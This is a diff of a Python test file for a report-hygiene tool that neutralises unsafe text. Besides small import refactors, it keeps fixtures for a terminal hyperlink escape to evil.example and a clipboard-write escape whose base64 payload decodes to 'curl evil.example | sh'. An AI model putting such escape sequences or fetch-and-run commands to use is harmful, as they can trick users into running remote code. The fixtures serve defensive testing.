@@ -15,7 +15,6 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from PIL import Image
-from typer.testing import CliRunner
 
 from hygiene_audit.cli import app
 from hygiene_audit.formats import html, markdown, terminal
@@ -24,9 +23,8 @@ from hygiene_audit.formats.interface import RenderOptions
 from hygiene_audit.models import CheckOutcome, Finding, Report
 from hygiene_audit.safe_text import neutralise
 
+from .cli_helpers import runner
 from .conftest import sample_report
-
-runner = CliRunner()
 
 OSC8 = "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\"
 OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
@@ -89,7 +87,7 @@ def test_bidi_override_is_not_active_inside_bdi() -> None:
     assert "<bdi>photo \ufffdgpj.exe</bdi>" in page
 
 
-safe_text = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)),
+safe_text = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]),
                     max_size=60)
 
 
